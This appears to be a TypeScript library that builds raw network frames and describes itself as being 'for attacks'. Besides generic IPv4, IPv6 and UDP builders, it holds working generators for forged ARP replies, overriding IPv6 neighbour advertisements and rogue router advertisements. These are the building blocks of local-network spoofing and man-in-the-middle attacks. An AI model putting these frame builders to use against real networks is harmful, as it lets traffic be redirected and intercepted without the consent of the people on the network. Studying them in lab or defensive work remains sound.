import { isIPv6 } from 'node:net';

/** Builders of raw frames for attacks. Each gives the bytes of one layer and takes the bytes of the next. */

/** RFC 2464, 7: the Ethernet group of all IPv6 nodes, ff02::1. */
export const ALL_NODES_MAC = '33:33:00:00:00:01';
const ALL_NODES = 'ff02::1';

export const ETHERTYPE = { ipv4: 0x0800, arp: 0x0806, ipv6: 0x86dd, vlan: 0x8100 } as const;
export const PROTOCOL = { icmp: 1, tcp: 6, udp: 17, icmp6: 58 } as const;

const macBytes = (mac: string): Buffer => Buffer.from(mac.replaceAll(':', ''), 'hex');

export function ipBytes(address: string): Buffer {
  if (!isIPv6(address)) return Buffer.from(address.split('.').map(Number));
  const [head = '', tail] = address.split('::');
  const groups = (text: string) => (text === '' ? [] : text.split(':').map((g) => Number.parseInt(g, 16)));
  const front = groups(head);
  const back = tail === undefined ? [] : groups(tail);
  const all = [...front, ...Array<number>(8 - front.length - back.length).fill(0), ...back];
  const bytes = Buffer.alloc(16);
  for (const [i, group] of all.entries()) bytes.writeUInt16BE(group, i * 2);
  return bytes;
}

export const u8 = (n: number) => Buffer.from([n]);
export const u16 = (n: number) => Buffer.from([n >> 8, n & 0xff]);
export const u32 = (n: number) => Buffer.from([n >>> 24, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff]);

/** RFC 1071. */
export function internetChecksum(bytes: Uint8Array): number {
  let sum = 0;
  for (let i = 0; i < bytes.length; i += 2) sum += (bytes[i]! << 8) | (bytes[i + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

export interface Link {
  readonly from: string;
  readonly to: string;
  /** An 802.1Q tag in front of the frame's type. */
  readonly vlan?: number;
}

/** @param type the frame's type, or a length (IEEE 802.3, 3.2.6) */
export function ethernetFrame(link: Link, type: number, payload: Uint8Array): Buffer {
  const tag = link.vlan === undefined ? [] : [u16(ETHERTYPE.vlan), u16(link.vlan)];
  const frame = Buffer.concat([macBytes(link.to), macBytes(link.from), ...tag, u16(type), payload]);
  return Buffer.concat([frame, Buffer.alloc(Math.max(0, 60 - frame.length))]);
}

export interface Ends {
  readonly source: string;
  readonly target: string;
}

/** @param fragment flags and offset (RFC 791, 3.1) */
export function ipv4Packet({ source, target }: Ends, protocol: number, payload: Uint8Array, fragment = 0): Buffer {
  const head = [
    u8(0x45),
    u8(0),
    u16(20 + payload.length),
    u16(fragment && 0x4856),
    u16(fragment),
    u8(64),
    u8(protocol),
  ];
  const addresses = [ipBytes(source), ipBytes(target)];
  const sum = internetChecksum(Buffer.concat([...head, u16(0), ...addresses]));
  return Buffer.concat([...head, u16(sum), ...addresses, payload]);
}

export function ipv6Packet({ source, target }: Ends, nextHeader: number, payload: Uint8Array): Buffer {
  // Hop limit 255: neighbour discovery refuses anything that a router may have passed on (RFC 4861, 6.1 and 7.1).
  const header = [u32(0x60000000), u16(payload.length), u8(nextHeader), u8(255), ipBytes(source), ipBytes(target)];
  return Buffer.concat([...header, payload]);
}

function ip(link: Link, ends: Ends, protocol: number, payload: Uint8Array): Buffer {
  return isIPv6(ends.source)
    ? ethernetFrame(link, ETHERTYPE.ipv6, ipv6Packet(ends, protocol, payload))
    : ethernetFrame(link, ETHERTYPE.ipv4, ipv4Packet(ends, protocol, payload));
}

/** Checksum over the pseudo-header, too (RFC 768; RFC 8200, 8.1). */
export function transportChecksum({ source, target }: Ends, protocol: number, segment: Uint8Array): number {
  const length = isIPv6(source) ? [u32(segment.length), u32(protocol)] : [u8(0), u8(protocol), u16(segment.length)];
  return internetChecksum(Buffer.concat([ipBytes(source), ipBytes(target), ...length, segment]));
}

export interface Udp extends Ends {
  readonly sourcePort: number;
  readonly targetPort: number;
  readonly data: string;
}

/** RFC 768, checksum included. */
export function udpDatagram(udp: Udp): Buffer {
  const ports = [u16(udp.sourcePort), u16(udp.targetPort), u16(8 + udp.data.length)];
  const data = Buffer.from(udp.data);
  const sum = transportChecksum(udp, PROTOCOL.udp, Buffer.concat([...ports, u16(0), data]));
  return Buffer.concat([...ports, u16(sum || 0xffff), data]);
}

export const udpFrame = (link: Link, udp: Udp): Buffer => ip(link, udp, PROTOCOL.udp, udpDatagram(udp));

interface Station {
  readonly address: string;
  readonly mac: string;
}

/** An ARP reply (RFC 826) that says: `address` is at `mac`. */
export const arpReplyFrame = (link: Link, claim: Station, asked: Station): Buffer => arpFrame(link, 2, claim, asked);

/** An ARP question; who is asked learns where the asker is, too. */
export const arpRequestFrame = (link: Link, asker: Station, asked: Station): Buffer => arpFrame(link, 1, asker, asked);

function arpFrame(link: Link, operation: number, claim: Station, asked: Station): Buffer {
  const head = [u16(1), u16(ETHERTYPE.ipv4), u8(6), u8(4), u16(operation)];
  const ends = [macBytes(claim.mac), ipBytes(claim.address), macBytes(asked.mac), ipBytes(asked.address)];
  return ethernetFrame(link, ETHERTYPE.arp, Buffer.concat([...head, ...ends]));
}

function icmp6Message(ends: Ends, type: number, body: Uint8Array): Buffer {
  const sum = transportChecksum(ends, PROTOCOL.icmp6, Buffer.concat([u8(type), u8(0), u16(0), body]));
  return Buffer.concat([u8(type), u8(0), u16(sum), body]);
}

/** A neighbour advertisement (RFC 4861, 4.4), override set, that says: `address` is at `mac`. */
export function neighbourAdvertisementFrame(
  link: Link,
  claim: { address: string; mac: string },
  target: string,
): Buffer {
  const override = u32(0x20000000);
  const option = [u8(2), u8(1), macBytes(claim.mac)];
  const ends = { source: claim.address, target };
  const message = icmp6Message(ends, 136, Buffer.concat([override, ipBytes(claim.address), ...option]));
  return ip(link, ends, PROTOCOL.icmp6, message);
}

/** A router advertisement (RFC 4861, 4.2) with one prefix of 64 bits for address configuration, valid for a minute. */
export function routerAdvertisement(router: string, prefix: string): { readonly ends: Ends; readonly message: Buffer } {
  const header = [u8(64), u8(0), u16(60), u32(0), u32(0)];
  const option = [u8(3), u8(4), u8(64), u8(0xc0), u32(60), u32(60), u32(0), ipBytes(prefix)];
  const ends = { source: router, target: ALL_NODES };
  return { ends, message: icmp6Message(ends, 134, Buffer.concat([...header, ...option])) };
}

export function routerAdvertisementFrame(link: Link, router: string, prefix: string): Buffer {
  const { ends, message } = routerAdvertisement(router, prefix);
  return ip(link, ends, PROTOCOL.icmp6, message);
}
